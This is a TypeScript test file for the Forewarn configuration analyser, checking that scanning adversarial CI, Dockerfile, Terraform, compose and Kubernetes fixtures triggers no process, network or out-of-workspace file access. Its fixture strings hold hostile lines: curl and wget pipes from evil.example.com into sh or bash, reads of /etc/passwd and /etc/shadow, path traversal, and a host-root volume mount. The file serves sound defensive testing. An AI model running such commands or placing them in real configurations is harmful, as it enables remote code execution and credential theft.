// Untrusted input stays data: nothing in an analysed file makes Forewarn run a program, reach the network, or read a
// file outside the workspace — module sources, `include: remote`, `$ref`, `env_file`, `ADD <url>` are never followed.

import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, sep } from 'node:path';
import { describe, it } from 'node:test';
import { pathToFileURL } from 'node:url';
import { Analyzer } from '../../server/src/engine/index.js';
import { REPO, TestClient } from '../helpers/lsp-client.js';

/** Files whose contents point at programs, URLs and paths outside the workspace. */
const ADVERSARIAL: Record<string, string> = {
  '.github/workflows/evil.yml': [
    'on: pull_request_target',
    'jobs:',
    '  a:',
    '    uses: evil/repo/.github/workflows/x.yml@main',
    '  b:',
    '    runs-on: ubuntu-latest',
    '    container: evil.example.com:5000/img:latest',
    '    steps:',
    '      - uses: docker://evil.example.com/x:latest',
    '      - uses: ./../../../../etc',
    '      - run: curl https://evil.example.com/x | sh; cat /etc/passwd',
    '      - uses: evil/action@v1',
    '        with:',
    '          $ref: /etc/passwd',
    '          url: file:///etc/shadow',
    '',
  ].join('\n'),
  '.gitlab-ci.yml': [
    'include:',
    "  - remote: 'https://evil.example.com/ci.yml'",
    '  - local: ../../../../etc/passwd',
    '  - project: evil/group',
    '    file: /x.yml',
    '  - component: evil.example.com/c/x@main',
    'x:',
    '  image: evil.example.com/x',
    '  script: [ "wget -O- https://evil.example.com | bash" ]',
    '',
  ].join('\n'),
  'Dockerfile': 'FROM evil.example.com/base\nADD https://evil.example.com/payload.tgz /\nCOPY --from=evil.example.com/img /etc/passwd /x\nRUN curl https://evil.example.com | sh\n',
  'compose.yaml': 'services:\n  a:\n    image: evil.example.com/a\n    env_file: /etc/passwd\n    extends:\n      file: ../../../../etc/compose.yml\n      service: x\n    build: https://evil.example.com/repo.git\n',
  'infra/main.tf': [
    'module "a" {',
    '  source = "git::https://evil.example.com/x.git?ref=main"',
    '}',
    'module "b" {',
    '  source = "../../../../../etc"',
    '}',
    'locals {',
    '  p = file("/etc/passwd")',
    '  q = templatefile("${path.module}/../../../../etc/shadow", {})',
    '}',
    'data "http" "x" {',
    '  url = "https://evil.example.com"',
    '}',
    'data "external" "y" {',
    '  program = ["sh", "-c", "touch /tmp/pwned"]',
    '}',
    '',
  ].join('\n'),
  'k8s/pod.yaml': 'apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n    - name: c\n      image: evil.example.com/x\n      volumeMounts: [{name: h, mountPath: /host}]\n  volumes:\n    - name: h\n      hostPath: {path: /}\n',
  'azure-pipelines.yml': 'resources:\n  repositories:\n    - repository: evil\n      type: github\n      name: evil/repo\n      endpoint: x\nextends:\n  template: templates/x.yml@evil\nsteps:\n  - script: curl https://evil.example.com | sh\n',
};

function workspace(): string {
  const root = mkdtempSync(join(tmpdir(), 'forewarn-untrusted-'));
  for (const [rel, text] of Object.entries(ADVERSARIAL)) {
    mkdirSync(dirname(join(root, rel)), { recursive: true });
    writeFileSync(join(root, rel), text);
  }
  return root;
}

describe('untrusted input stays data', () => {
  it('the engine analyses adversarial files without touching processes, network or files', async () => {
    // The engine layer imports none of these modules; make sure nothing reached them either.
    const cp = await import('node:child_process');
    const net = await import('node:net');
    const http = await import('node:http');
    const https = await import('node:https');
    const fs = await import('node:fs');
    const calls: string[] = [];
    const spies: [object, string, unknown][] = [];
    const spy = (mod: object, name: string) => {
      const original = (mod as Record<string, unknown>)[name];
      spies.push([mod, name, original]);
      (mod as Record<string, unknown>)[name] = (...args: unknown[]) => {
        // Forewarn's own files (a library module loaded on first use) are allowed, as the server test's guard allows
        // REPO; nothing an analysed file names lies there.
        if (!String(args[0]).startsWith(REPO + sep)) calls.push(`${name}(${String(args[0])})`);
        return (original as (...a: unknown[]) => unknown)(...args);
      };
    };
    const analyzer = new Analyzer();
    for (const name of ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']) spy(cp.default, name);
    for (const name of ['connect', 'createConnection']) spy(net.default, name);
    spy(http.default, 'request');
    spy(https.default, 'request');
    for (const name of ['readFileSync', 'openSync', 'readdirSync', 'statSync', 'existsSync']) spy(fs.default, name);
    const realFetch = globalThis.fetch;
    globalThis.fetch = ((u: unknown) => {
      calls.push(`fetch(${String(u)})`);
      return Promise.reject(new Error('no'));
    }) as typeof fetch;
    let findings = 0;
    try {
      for (const [path, text] of Object.entries(ADVERSARIAL)) findings += analyzer.analyze({ path, text }).findings.length;
    } finally {
      for (const [mod, name, original] of spies) (mod as Record<string, unknown>)[name] = original;
      globalThis.fetch = realFetch;
    }
    assert.deepEqual(calls, []);
    assert.ok(findings > 0, 'the files were analysed');
  });

  it('the language server opens and scans them without a forbidden call', async () => {
    const root = workspace();
    const client = await TestClient.start({
      rootUri: pathToFileURL(root).toString(),
      env: { NODE_OPTIONS: `--require ${join(REPO, 'out/test/fixtures/io-guard.js')}`, IO_GUARD_ROOT: root, IO_GUARD_ALLOW: REPO },
    });
    const stderr: string[] = [];
    client.proc.stderr!.on('data', (b: Buffer) => stderr.push(b.toString()));
    try {
      await client.until(() => client.statuses.findLast((s) => !s.scanning && s.lastScan), 'the workspace scan');
      for (const [rel, text] of Object.entries(ADVERSARIAL)) {
        const uri = pathToFileURL(join(root, rel)).toString();
        await client.open(uri, text, 'yaml', 1);
        await client.diagnostics(uri, () => true, 1);
        await client.conn.sendRequest('textDocument/codeAction', { textDocument: { uri }, range: { start: { line: 0, character: 0 }, end: { line: 99, character: 0 } }, context: { diagnostics: client.published.get(uri)!.diagnostics } });
      }
      assert.ok([...client.published.values()].some((p) => p.diagnostics.length > 0), 'findings were published');
      assert.doesNotMatch(stderr.join(''), /FORBIDDEN/);
    } finally {
      await client.stop();
      rmSync(root, { recursive: true, force: true });
    }
  });

  it('the guard itself reports what it forbids (so its silence above means something)', async () => {
    const { spawnSync } = await import('node:child_process');
    const r = spawnSync(
      process.execPath,
      ['--require', join(REPO, 'out/test/fixtures/io-guard.js'), '-e', "require('fs').readFileSync('/etc/hostname'); require('net').connect(1, '127.0.0.1').on('error', () => {}); require('child_process').spawnSync('true')"],
      { env: { ...process.env, IO_GUARD_ROOT: '/nonexistent' }, encoding: 'utf8' },
    );
    assert.match(r.stderr, /FORBIDDEN fs\.readFileSync \/etc\/hostname/);
    assert.match(r.stderr, /FORBIDDEN net\.connect/);
    assert.match(r.stderr, /FORBIDDEN child_process\.spawnSync true/);
  });
});
